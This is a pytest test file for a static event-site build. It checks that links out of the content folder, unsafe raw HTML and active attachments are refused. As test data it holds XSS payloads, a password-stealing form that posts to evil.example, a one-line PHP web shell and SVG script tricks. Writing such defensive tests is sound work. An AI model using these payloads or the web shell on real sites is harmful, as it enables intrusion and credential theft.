"""Hostile content: links out of the content folder, raw HTML in bodies, active attachments.

Content can come from a pull request or an import, and the build runs in CI next to
deploy secrets: nothing from outside the content folder is published, a body's HTML is
cleaned to an allow-list, and no attachment is a program."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from sitebuild import REPO, Build, ContentFolder, build

sys.path.insert(0, str(REPO / "plugins"))
from eventsite.preview import PreviewSite  # noqa: E402
from eventsite.site_checks import check_site  # noqa: E402

SECRET = "SECRET-deploy-token-0123456789"


def stopped_with(result: Build, *fragments: str) -> str:
    """The build failed without a traceback, wrote nothing, and one line says all of `fragments`."""
    assert result.result.returncode != 0, result
    assert "Traceback" not in result.result.stderr + result.result.stdout
    assert not result.output.exists() or not any(result.output.iterdir()), "a failed build must write nothing"
    lines = [line for line in result.errors if all(fragment in line for fragment in fragments)]
    assert lines, f"no line with {fragments} in\n{result.result.stderr}"
    return lines[0]


def published_anywhere(output: Path, text: str) -> list[str]:
    if not output.exists():
        return []
    return [str(p) for p in output.rglob("*") if p.is_file() and text.encode() in p.read_bytes()]


# --- links out of the content folder -----------------------------------------------------


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder beside the content folder, with a secret in it."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "token.txt").write_text(SECRET, encoding="utf-8")
    (folder / "leak.md").write_text(f"---\ntitle: Leak\ndate: 2027-01-05\n---\n{SECRET}\n", encoding="utf-8")
    return folder


LINKS = {
    # link in the content folder: where it leads (relative to the outside folder, or absolute)
    "events/forum/notes.txt": "token.txt",
    "images/token.png": "token.txt",
    "news/leak.md": "leak.md",
    "events/forum/environment.txt": "/proc/self/environ",
    "events/forum/documents": ".",  # a folder
    "campaigns/everything": "/",  # Pelican would walk the whole disk
}


@pytest.mark.parametrize("link", sorted(LINKS))
def test_a_link_out_of_the_content_folder_stops_the_build(content, build_content, outside, link):
    content.event("forum")
    target = LINKS[link]
    path = content.root / link
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target if target.startswith("/") else outside / target)
    result = build_content()
    line = stopped_with(result, f"{link}: file: this is a link to ", "outside the content folder")
    assert "copy what it leads to into the content folder" in line
    assert published_anywhere(result.output, SECRET) == []


def test_a_failed_build_leaves_the_previous_site_and_publishes_no_secret(content, build_content, outside):
    content.event("forum")
    assert build_content().ok
    (content.root / "events/forum/notes.txt").symlink_to(outside / "token.txt")
    result = build_content()
    assert result.result.returncode == 1
    assert "events/forum/notes.txt: file: this is a link to" in result.result.stderr
    assert (result.output / "events/forum/index.html").is_file()  # the site as it was
    assert published_anywhere(result.output, SECRET) == []
    assert SECRET not in result.result.stderr + result.result.stdout


@pytest.mark.parametrize(
    ("link", "target", "what"),
    [
        ("events/forum/again", "..", "this link leads to a folder that holds it"),
        ("events/forum/gone.pdf", "missing.pdf", "this link leads to nothing"),
    ],
)
def test_loops_and_broken_links_stop_the_build(content, build_content, link, target, what):
    content.event("forum")
    (content.root / link).symlink_to(target)
    stopped_with(build_content(), f"{link}: file: {what}")


def test_a_device_or_a_pipe_stops_the_build(content, build_content):
    content.event("forum")
    os.mkfifo(content.root / "events/forum/pipe.pdf")  # copying it would wait forever
    stopped_with(build_content(), "events/forum/pipe.pdf: file: this is not a file but a device, a pipe or a socket")


def test_links_inside_the_content_folder_are_followed(content, build_content):
    content.event("forum")
    content.write("events/forum/files/programme.pdf", "%PDF the programme")
    (content.root / "images").mkdir()
    (content.root / "images/programme.pdf").symlink_to("../events/forum/files/programme.pdf")
    (content.root / "campaigns").mkdir()
    (content.root / "campaigns/forum-files").symlink_to("../events/forum/files", target_is_directory=True)
    result = build_content()
    assert result.ok, result
    assert (result.output / "images/programme.pdf").read_text() == "%PDF the programme"
    assert (result.output / "campaigns/forum-files/programme.pdf").is_file()


def test_the_preview_shows_a_link_out_and_serves_nothing_from_outside(content, tmp_path, outside, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1790000000")
    content.event("forum", summary="Soon.")
    site = PreviewSite(str(REPO / "pelicanconf.py"), str(content.root), str(tmp_path / "output"))
    site.refresh()
    assert site.errors == []
    (content.root / "events/forum/notes.txt").symlink_to(outside / "token.txt")
    site.refresh()
    assert any("events/forum/notes.txt: file: this is a link to" in line for line in site.errors)
    assert SECRET not in site.error_page().decode()
    # Whatever put it there, a link in the preview's output folder is not followed out of it.
    (site.output / "leak.txt").symlink_to(outside / "token.txt")
    assert site.file_for("/leak.txt") is None
    (content.root / "events/forum/notes.txt").unlink()
    site.refresh()
    assert site.errors == []
    assert site.file_for("/events/forum/") is not None


def test_check_site_refuses_a_link_out_of_the_content_folder(content, outside):
    """`invoke check --site` passed a link to /proc/self/environ: it builds, and so refuses it."""
    content.event("forum", summary="Soon.")
    (content.root / "events/forum/environment.txt").symlink_to("/proc/self/environ")
    (content.root / "events/forum/notes.txt").symlink_to(outside / "token.txt")
    environment = {**os.environ, "SOURCE_DATE_EPOCH": "1790000000", "SITEURL": "https://events.example.org"}
    result = subprocess.run(
        [str(Path(sys.executable).with_name("invoke")), "check", "--site", "--content", str(content.root)],
        cwd=REPO,
        capture_output=True,
        text=True,
        env=environment,
        check=False,
    )
    assert result.returncode == 1, result.stdout + result.stderr
    for link in ("events/forum/environment.txt", "events/forum/notes.txt"):
        assert f"{link}: file: this is a link to " in result.stderr
    assert "Traceback" not in result.stderr and SECRET not in result.stdout + result.stderr


def test_the_site_check_refuses_a_link_out_of_the_built_site(tmp_path, outside):
    site = tmp_path / "site"
    (site / "events/forum").mkdir(parents=True)
    (site / "index.html").write_text("<!doctype html><title>x</title>", encoding="utf-8")
    (site / "events/forum/notes.txt").symlink_to(outside / "token.txt")
    (site / "events/forum/files").symlink_to(outside, target_is_directory=True)
    (site / "home.html").symlink_to("index.html")  # inside the site: allowed
    problems = [str(p) for p in check_site(site, "https://events.example.org", validate_html=False)]
    for link, target in (("events/forum/files", outside), ("events/forum/notes.txt", outside / "token.txt")):
        assert f"{link}: is a link to {target}, outside the site: nothing from outside it may be published" in problems
    assert not [p for p in problems if p.startswith("home.html: is a link")]


# --- raw HTML in bodies -------------------------------------------------------------------

FRONT = "---\ntitle: The forum\nkind: conference\nstart: 2027-03-10\nsummary: Soon.\n---\n"  # body from line 7

HOSTILE = {
    # what the body holds on its line: (the warning, what must not reach the page)
    "Before <script>alert('script')</script> after.": ("<script> was removed", "alert('script')"),
    '<iframe src="https://evil.example/frame"></iframe>': ("<iframe> was removed", "evil.example/frame"),
    '<form action="https://evil.example/steal"><input name="password"></form>': (
        "<form> was removed",
        "evil.example/steal",
    ),
    "<style>body { display: none }</style>": ("<style> was removed", "display: none"),
    "<p onclick=\"alert('click')\">Click me</p>": ("the onclick attribute of <p> was removed", "alert('click')"),
    'An <img src="map.png" alt="Map" onerror="alert(\'img\')"> image.': (
        "the onerror attribute of <img> was removed",
        "alert('img')",
    ),
    "A [link](https://example.org) and <a href=\"javascript:alert('a')\">a trap</a>.": (
        "the address \"javascript:alert('a')\" of <a> was removed",
        "javascript:",
    ),
    "<a href=\"jav&#x09;ascript:alert('b')\">hidden trap</a>": (  # a tab, which browsers ignore
        "the address \"jav ascript:alert('b')\" of <a> was removed",
        "ascript:alert",
    ),
    '<object data="https://evil.example/flash.swf"></object>': ("<object> was removed", "flash.swf"),
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Build, dict[str, int]]:
    """One event whose body holds every hostile line, each on a line of its own."""
    root = tmp_path_factory.mktemp("hostile")
    content = ContentFolder(root / "content")
    lines = {text: 7 + 2 * index for index, text in enumerate(HOSTILE)}
    content.write("events/forum/index.md", FRONT + "".join(f"{text}\n\n" for text in HOSTILE))
    return build(content.root, root / "output"), lines


@pytest.mark.parametrize("text", list(HOSTILE))
def test_hostile_html_is_removed_with_a_warning_naming_its_line(hostile, text):
    result, lines = hostile
    assert result.ok, result  # a warning: the page is right without it
    warning, gone = HOSTILE[text]
    expected = f"events/forum/index.md: body: warning: line {lines[text]}: {warning}"
    assert [line for line in result.errors if expected in line], result
    assert gone not in result.text("events/forum/index.html")


def test_the_text_around_removed_html_stays(hostile):
    result, _ = hostile
    body = result.soup("events/forum/").find("main").get_text(" ")
    assert "Before" in body and "after." in body and "Click me" in body and "a trap" in body
    assert result.soup("events/forum/").find("a", string="link")["href"] == "https://example.org"


WORD = '<p class=MsoNormal style="margin:0"><span lang=EN-GB style="font-family:Calibri">Para {}<o:p></o:p></span></p>'


def test_removals_are_said_once_a_kind_in_the_order_of_the_lines(check_content, content):
    """A 200-paragraph paste from Word is four lines, not 800; an inline footnote's HTML is
    on the line of its mark; line 9 comes before line 212."""
    body = "First line.\n\nA note ^[<img src=x onerror=alert(1)>] here.\n\n"  # the note on line 9
    body += "".join(WORD.format(n) + "\n" for n in range(200))  # lines 11 to 210
    body += '\n<iframe src="https://evil.example/"></iframe>\n'  # line 212
    content.write("events/forum/index.md", FRONT + body)
    result = check_content()
    assert result.ok, result
    prefix = "events/forum/index.md: body: warning: "
    found = [line.split(prefix, 1)[1].split(" (")[0] for line in result.errors if prefix in line]
    assert found == [
        "line 9: the onerror attribute of <img> was removed",
        "lines 11, 12, 13 and 197 more: <o:p> was removed",
        "lines 11, 12, 13 and 197 more: the class attribute of <p> was removed",
        "lines 11, 12, 13 and 197 more: the style attribute of <p> was removed",
        "lines 11, 12, 13 and 197 more: the style attribute of <span> was removed",
        "line 212: <iframe> was removed",
    ]


ALLOWED_BODY = """Press <kbd>Ctrl</kbd>+<kbd>S</kbd>; the <abbr title="Committee to Protect Journalists">CPJ</abbr>
meets on H<sub>2</sub>O and E=mc<sup>2</sup>, <mark>marked</mark> and <del>struck</del>.

<details>
<summary>Travel</summary>

Take the train.

</details>

| Left | Right |
|:-----|------:|
| a    | b     |

See [the programme]({static}/events/forum/programme.pdf), [about us]({filename}/pages/about.md)
and <a href="{static}/images/map.png" title="Map">the map</a>, or write to
<a href="mailto:office@example.org">the office</a>.[^1]

<img src="{static}/images/map.png" alt="Map of the venue" width="300" height="200">

[^1]: A footnote.
"""


def test_the_allowed_html_and_intrasite_links_survive(content, build_content):
    content.write("events/forum/index.md", FRONT + ALLOWED_BODY)
    content.write("events/forum/programme.pdf", "%PDF")
    content.write("images/map.png", "PNG")
    content.page("about")
    result = build_content()
    assert result.ok, result
    assert not [line for line in result.errors if ": body: " in line], result
    main = result.soup("events/forum/").find("main")
    assert [k.get_text() for k in main.find_all("kbd")] == ["Ctrl", "S"]
    assert main.find("abbr")["title"] == "Committee to Protect Journalists"
    assert main.find("sub") and main.find("mark") and main.find("del") and main.find("summary").get_text() == "Travel"
    assert main.find("td", string="b")["style"] == "text-align:right"
    hrefs = {a.get_text(): a["href"] for a in main.find_all("a")}
    assert hrefs["the programme"] == "../../events/forum/programme.pdf"
    assert hrefs["about us"] == "../../about/"
    assert hrefs["the map"] == "../../images/map.png"
    assert hrefs["the office"] == "mailto:office@example.org"
    image = main.find("img", alt="Map of the venue")
    assert (image["src"], image["width"], image["height"]) == ("../../images/map.png", "300", "200")
    assert main.find("section", class_="footnotes").find("li", id="fn1")
    assert main.find("sup", class_="footnote-ref").find("a")["href"] == "#fn1"


def test_a_site_may_keep_raw_html_as_written(content, build_content):
    content.write("events/forum/index.md", FRONT + '<p onclick="go()">Hi</p>\n\n<script>go()</script>\n')
    result = build_content(overrides={"EVENTSITE_RAW_HTML": True})
    assert result.ok, result
    assert not [line for line in result.errors if ": body: " in line]
    page = result.text("events/forum/index.html")
    assert '<p onclick="go()">Hi</p>' in page and "<script>go()</script>" in page


def test_kept_readings_keep_their_warnings(content, tmp_path, monkeypatch):
    """The preview reads a file again only when it changed; its warnings stay all the same."""
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1790000000")
    content.write("events/forum/index.md", FRONT + "Hello <script>x()</script>\n")
    site = PreviewSite(str(REPO / "pelicanconf.py"), str(content.root), str(tmp_path / "output"))
    expected = "events/forum/index.md: body: warning: line 7: <script> was removed"
    for _ in range(2):
        site.refresh()
        assert site.errors == []
        assert [line for line in site.warnings if expected in line], site.warnings
    assert "x()" not in site.file_for("/events/forum/").read_text(encoding="utf-8")


# --- active attachments -------------------------------------------------------------------

SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">{}</svg>'

ACTIVE = {
    # attachment: (its text, what the error says)
    "events/forum/app.js": ("alert(1)", "this attachment is a script"),
    "events/forum/module.mjs": ("export {}", "this attachment is a script"),
    "events/forum/invitation.html": ("<script>alert(1)</script>", "this attachment is an HTML page"),
    "events/forum/invitation.HTM": ("<p>x</p>", "this attachment is an HTML page"),
    "images/page.xhtml": ("<html/>", "this attachment is an HTML page"),
    "events/forum/shell.php": ("<?php system($_GET['c']); ?>", "a program a web server may run"),
    "events/forum/report.php.pdf": ("<?php ?>", "a program a web server may run"),
    "events/forum/form.phtml": ("<?php ?>", "a program a web server may run"),
    "campaigns/run.cgi": ("#!/bin/sh", "a program a web server may run"),
    "events/forum/tool.pl": ("print 1", "a program a web server may run"),
    "events/forum/tool.py": ("print(1)", "a program a web server may run"),
    "events/forum/page.aspx": ("<% %>", "a program a web server may run"),
    "events/forum/page.asp": ("<% %>", "a program a web server may run"),
    "events/forum/page.jsp": ("<% %>", "a program a web server may run"),
    "events/forum/.htaccess": ("AddHandler cgi-script .pdf", "a web server's configuration file"),
    "images/web.config": ("<configuration/>", "a web server's configuration file"),
    "images/encoded.svg": (SVG.format('<a href="&#106;avascript:alert(1)"><rect/></a>'), "no SVG image"),
    "events/forum/script.svg": (SVG.format("<script>alert(1)</script>"), "the site publishes no SVG image"),
    "events/forum/onload.SVG": (SVG.format('<rect onload="alert(1)"/>'), "the site publishes no SVG image"),
    "images/foreign.svg": (SVG.format("<foreignObject><p>x</p></foreignObject>"), "no SVG image"),
    # What a scan of the text missed: a namespace prefix, UTF-16, HTML inside SVG
    "events/forum/prefixed.svg": (
        SVG.format('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'),
        "the site publishes no SVG image",
    ),
    "events/forum/utf16.svg": (SVG.format("<script>alert(1)</script>").encode("utf-16"), "no SVG image"),
    "events/forum/login.svg": (
        SVG.format('<h:form xmlns:h="http://www.w3.org/1999/xhtml" action="https://evil.example"></h:form>'),
        "the site publishes no SVG image",
    ),
    # An allow-list: what is not a document, an image, a sound or a video is refused
    "events/forum/page.xml": (
        '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
        "the site publishes no file of this kind",
    ),
    "events/forum/style.xsl": ("<x/>", "the site publishes no file of this kind"),
    "events/forum/style.XSLT": ("<x/>", "the site publishes no file of this kind"),
    "events/forum/page.shtm": ("<!--#exec cmd='id' -->", "this attachment is an HTML page"),
    "events/forum/app.js ": ("alert(1)", "the site publishes no file of this kind"),
    "events/forum/notes": ("x", "the site publishes no file of this kind"),
}


@pytest.fixture(scope="module")
def active(tmp_path_factory) -> Build:
    root = tmp_path_factory.mktemp("active")
    content = ContentFolder(root / "content")
    content.event("forum")
    for path, (text, _) in ACTIVE.items():
        if isinstance(text, bytes):
            (content.root / path).write_bytes(text)
        else:
            content.write(path, text)
    return build(content.root, root / "output")


@pytest.mark.parametrize("path", list(ACTIVE))
def test_an_active_attachment_stops_the_build(active, path):
    line = stopped_with(active, f"{path}: file: ", ACTIVE[path][1])
    assert "(" in line and line.endswith(")"), "the line says what to do"
    if "of this kind" in line:
        assert ".pdf, .txt," in line and ".png, .jpg," in line and ".mp4" in line, "the line lists what is accepted"


def test_a_plain_svg_image_is_refused_too(content, build_content):
    """Whatever it holds: an SVG file is a program a browser runs when it is opened."""
    content.event("forum")
    content.write("images/plain.svg", SVG.format('<circle cx="5" cy="5" r="4" fill="teal"/>'))
    line = stopped_with(build_content(), "images/plain.svg: file: the site publishes no SVG image")
    assert "export it as PNG or WebP" in line


ACCEPTED = ["programme.pdf", "Photo.JPG", "map.webp", "budget.xlsx", "slides.pptx", "notes.txt", "talk.mp4"]
ACCEPTED += ["talk.en.vtt", "interview.mp3", "papers.zip", "report.2026.docx", "agenda.markdown"]


def test_attachments_of_the_accepted_kinds_are_published(content, build_content):
    content.event("forum")
    for name in ACCEPTED:
        content.write(f"events/forum/{name}", "x")
    content.write("images/logo.png", "PNG")
    result = build_content()
    assert result.ok, result
    assert not [line for line in result.errors if ": file: " in line and "warning:" not in line], result
    for name in ACCEPTED:
        assert (result.output / "events/forum" / name).is_file(), name
    assert (result.output / "images/logo.png").is_file()


def test_the_editors_guide_lists_exactly_the_accepted_attachments():
    from eventsite.security import ATTACHMENT_KINDS

    guide = (REPO / "docs/editing.md").read_text(encoding="utf-8")
    table = guide.split("| kind | endings |", 1)[1].split("\n\n", 1)[0]
    assert set(re.findall(r"`\.([a-z0-9]+)`", table)) == {e for kinds in ATTACHMENT_KINDS.values() for e in kinds}


@pytest.mark.parametrize("path", ["events/forum/.env", "images/.well-known/security.txt", "campaigns/.git/config"])
def test_a_dotfile_is_refused(content, build_content, path):
    """Pelican 4.12's IGNORE_FILES ("**/.*") matches no file name: it would publish them."""
    content.event("forum")
    content.write(path, "SECRET=1")
    stopped_with(build_content(), f"{path}: file: a file or folder whose name starts with a dot")


def test_editors_litter_is_left_out_quietly(content, build_content):
    """What editors' tools leave beside a file is not published and stops nothing."""
    content.event("forum")
    content.news("hello")
    for name in (".DS_Store", "._programme.pdf", ".index.md.swp", ".gitkeep"):
        content.write(f"events/forum/{name}", "x")
    for name in ("events/forum/.#index.md", "news/.#hello.md"):  # Emacs's locks: links to nowhere
        (content.root / name).symlink_to("someone@host.1234:1700000000")
    result = build_content()
    assert result.ok, result
    assert not [line for line in result.errors if "/." in line], result
    assert not [name for name in result.files() if "/." in name or name.startswith(".")]


def test_the_editors_guide_lists_exactly_the_allowed_tags():
    from eventsite.markup import ALLOWED_TAGS

    guide = (REPO / "docs/editing.md").read_text(encoding="utf-8")
    section = guide.split("## HTML in the text", 1)[1].split("\n## ", 1)[0]
    listed = section.split("Any tag may have")[0]  # the list of tags, before their attributes
    names = set(re.findall(r"`([a-z0-9]+)`", listed)) | {f"h{level}" for level in range(1, 7)}
    assert names == ALLOWED_TAGS
